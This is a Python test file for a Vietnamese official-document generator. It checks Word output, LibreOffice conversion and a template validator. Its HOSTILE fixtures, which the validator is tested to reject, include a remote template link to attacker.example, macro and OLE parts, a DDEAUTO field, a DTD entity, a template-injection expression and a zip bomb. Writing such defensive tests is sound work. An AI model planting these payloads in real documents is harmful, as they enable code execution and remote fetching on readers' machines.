"""Word papers: nothing lost, real styles and headings, same bytes; LibreOffice keeps words and pages; templates are checked hard."""

import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from docx import Document
from paper_forms import filled
from paper_pdf import letters_only, lost_words, needs_poppler, pages_of

from luytre.core.paper import fonts
from luytre.core.paper.forms import names
from luytre.core.paper.letters import PaperRefused
from luytre.core.paper.model import Table
from luytre.core.paper.pdf import pdf
from luytre.core.paper.reading import read
from luytre.core.paper.sheet import sheet
from luytre.core.paper.word import docx
from luytre.core.paper.word.check import check, faults
from luytre.core.paper.word.original import original
from luytre.core.paper.word.trial import text_of

SAMPLES = sorted((Path(__file__).parent / "samples").glob("*.json"))
each_sample = pytest.mark.parametrize("sample", SAMPLES, ids=lambda path: path.stem)
needs_office = pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed (apt install libreoffice-writer-nogui)")


@each_sample
def test_every_word_is_in_the_word_file(sample: Path) -> None:
    paper = read(sample.read_bytes())
    assert lost_words(sheet(paper), text_of(docx(paper))) == []


@each_sample
def test_word_file_has_styles_headings_and_repeated_heads(sample: Path) -> None:
    paper = read(sample.read_bytes())
    document = Document(io.BytesIO(docx(paper)))
    wanted = [b.text for b in paper.blocks if b.__struct_config__.tag == "heading"]
    heads = [p.text for p in document.paragraphs if p.style.name in ("Heading 2", "Heading 3")]
    assert heads == wanted + [annex["name"] for annex in sheet(paper)["annexes"]]
    assert {p.style.name for p in document.paragraphs if p.text} & {"LT Nội dung"}
    tables = [b for part in [paper, *paper.annexes] for b in part.blocks if isinstance(b, Table)]
    repeated = document.element.body.xpath("//w:tblHeader")
    assert len(repeated) == len(tables)
    section = document.sections[0]
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (210, 297)
    assert [round(m.mm) for m in (section.top_margin, section.bottom_margin, section.left_margin, section.right_margin)] == [20, 20, 30, 15]
    assert document.core_properties.title == paper.title


@each_sample
def test_word_file_is_equal_to_the_byte(sample: Path) -> None:
    assert docx(read(sample.read_bytes())) == docx(read(sample.read_bytes()))


def test_style_ids_that_an_office_program_renamed_are_found_by_name() -> None:
    def renamed(data: bytes) -> bytes:
        return data.replace(b'"LTObang"', b'"a1"').replace(b'"LTKecoquan"', b'"a2"').replace(b'"Heading2"', b'"a3"')

    template = _changed(**{"word/styles.xml": renamed, "word/document.xml": renamed})
    assert faults(template) == []
    document = Document(io.BytesIO(docx(read((SAMPLES[0].parent / "monthly.json").read_bytes()), template)))
    names = {style.style_id: style.name for style in document.styles}
    used = set(document.element.body.xpath("//w:pStyle/@w:val"))
    assert {"a1", "a2", "a3"} <= used
    assert used <= names.keys()


@needs_poppler
@needs_office
@pytest.mark.slow
def test_a_template_saved_by_libreoffice_gives_the_same_pages(tmp_path: Path) -> None:
    (tmp_path / "template.docx").write_bytes(original())
    _office(tmp_path, "docx:MS Word 2007 XML", tmp_path / "saved", tmp_path / "template.docx")
    template = (tmp_path / "saved" / "template.docx").read_bytes()
    assert faults(template) == []
    for sample in SAMPLES:
        (tmp_path / f"{sample.stem}.docx").write_bytes(docx(read(sample.read_bytes()), template))
    _office(tmp_path, "pdf", tmp_path / "made", *(tmp_path / f"{sample.stem}.docx" for sample in SAMPLES))
    for sample in SAMPLES:
        ours = tmp_path / "ours.pdf"
        ours.write_bytes(pdf(read(sample.read_bytes())))
        assert len(pages_of(tmp_path / "made" / f"{sample.stem}.pdf")) == len(pages_of(ours)), sample.stem


@needs_poppler
@needs_office
@pytest.mark.slow
def test_libreoffice_keeps_words_and_pages(tmp_path: Path) -> None:
    papers = {sample.stem: read(sample.read_bytes()) for sample in SAMPLES} | {name: filled(name) for name in names()}
    for name, paper in papers.items():
        (tmp_path / f"{name}.docx").write_bytes(docx(paper))
    again, rendered = tmp_path / "again", tmp_path / "rendered"
    _office(tmp_path, "docx:MS Word 2007 XML", again, *sorted(tmp_path.glob("*.docx")))
    _office(tmp_path, "pdf", rendered, *sorted(tmp_path.glob("*.docx")))
    _office(tmp_path, "pdf", rendered / "again", *sorted(again.glob("*.docx")))
    for name, paper in papers.items():
        ours = tmp_path / "ours.pdf"
        ours.write_bytes(pdf(paper))
        pages = len(pages_of(ours))
        assert len(pages_of(rendered / f"{name}.pdf")) == pages, name
        assert len(pages_of(rendered / "again" / f"{name}.pdf")) == pages, name
        resaved = text_of((again / f"{name}.docx").read_bytes())
        assert letters_only(resaved) == letters_only(text_of((tmp_path / f"{name}.docx").read_bytes())), name


def _office(home: Path, kind: str, out: Path, *files: Path) -> None:
    """LibreOffice with Tinos standing for Times New Roman (Debian's older stand-in lacks Vietnamese letters)."""
    conf = home / "fonts.conf"
    swap = '<test name="family"><string>Times New Roman</string></test><edit name="family" mode="assign" binding="strong">'
    conf.write_text(
        f'<?xml version="1.0"?><fontconfig><dir>{fonts.home()}</dir><dir>/usr/share/fonts</dir><cachedir>{home}/cache</cachedir>'
        f'<match target="pattern">{swap}<string>Tinos</string></edit></match></fontconfig>'
    )
    out.mkdir(parents=True, exist_ok=True)
    command = ["soffice", f"-env:UserInstallation=file://{home}/profile", "--headless", "--convert-to", kind, "--outdir", str(out)]
    env = {"FONTCONFIG_FILE": str(conf), "HOME": str(home), "PATH": "/usr/bin:/bin"}
    subprocess.run([*command, *map(str, files)], env=env, check=True, capture_output=True, timeout=240)
    assert len(list(out.glob("*.*"))) >= len(files)


# -- templates ---------------------------------------------------------------------------------------------------------


def _changed(**parts: object) -> bytes:
    """The original template with parts replaced: name (dots for slashes are not needed) → bytes or a function of the old bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(original())) as old, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            change = parts.pop(name, None)
            data = old.read(name)
            new.writestr(name, change(data) if callable(change) else data)
        for name, data in parts.items():
            new.writestr(name, data)  # type: ignore[arg-type]
    return buffer.getvalue()


def _edited(old: str, new: str) -> bytes:
    def swap(data: bytes) -> bytes:
        assert old.encode() in data, old
        return data.replace(old.encode(), new.encode(), 1)

    return _changed(**{"word/document.xml": swap})


def test_original_template_is_accepted_and_always_the_same() -> None:
    assert faults(original()) == []
    assert original.__wrapped__() == original()


def test_an_edited_template_is_accepted_and_used() -> None:
    template = _edited("Kính gửi: ", "Trân trọng kính gửi: ")
    assert faults(template) == []
    assert "Trân trọng kính gửi: Chủ tịch" in text_of(docx(read((SAMPLES[0].parent / "monthly.json").read_bytes()), template))


HYPERLINK = '<Relationship Id="rIdX" Type="http://x/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/>'
HOSTILE = {
    "not a zip": (b"PK not really", "không phải tệp Word"),
    "macro": (_changed(**{"word/vbaProject.bin": b"\0"}), "macro"),
    "macro type": (_changed(**{"[Content_Types].xml": lambda d: d.replace(b"officedocument.word", b"macroEnabled.word", 1)}), "macro"),
    "ole": (_changed(**{"word/embeddings/a.bin": b"\0"}), "tệp nhúng"),
    "link": (
        _changed(**{"word/_rels/document.xml.rels": lambda d: d.replace(b"</Relationships>", HYPERLINK.encode() + b"</Relationships>")}),
        "liên kết ra ngoài",
    ),
    "dtd": (_changed(**{"word/document.xml": lambda d: d.replace(b"<w:document", b'<!DOCTYPE a [<!ENTITY b "c">]><w:document', 1)}), "DTD"),
    "dde": (_edited("<w:sectPr", "<w:p><w:r><w:instrText>DDEAUTO c:\\x</w:instrText></w:r></w:p><w:sectPr"), "DDEAUTO"),
    "unknown field": (_edited("{{ nguoi_ky }}", "{{ nguoi_ki }}"), "không có trường “nguoi_ki”"),
    "missing field": (_edited("{{ so_ky_hieu }}", "Số: 1/BC"), "thiếu trường bắt buộc {{ so_ky_hieu }}"),
    "broken tag": (_edited("{{ nguoi_ky }}", "{{ nguoi_ky"), "viết sai"),
    "code": (_edited("{{ nguoi_ky }}", "{{ nguoi_ky.__class__.__mro__ }}"), "không dùng được cú pháp"),
    "call": (_edited("{{ nguoi_ky }}", "{{ nguoi_ky }}{{ dong(1) }}"), "không dùng được cú pháp"),
    "motto": (_edited("CỘNG HÒA XÃ HỘI", "CỘNG HOÀ"), "Quốc hiệu"),
    "margin": (_edited('w:left="1701"', 'w:left="900"'), "lề trái"),
    "body twice": (_edited("V/v ", "{{ noi_dung }} V/v "), "văn bản thử|đứng riêng"),
    "lost line": (_edited("- {{ dong }}", "- "), "bị mất chữ"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_faults_of_a_template_are_named(name: str) -> None:
    template, says = HOSTILE[name]
    found = faults(template)
    assert any(re.search(says, fault.says) for fault in found), found
    with pytest.raises(PaperRefused):
        check(template)


def test_a_zip_bomb_is_not_opened() -> None:
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as package:
        for index in range(3):
            package.writestr(f"word/{index}.xml", b" " * 80_000_000)
    assert "giải nén quá lớn" in faults(bomb.getvalue())[0].says
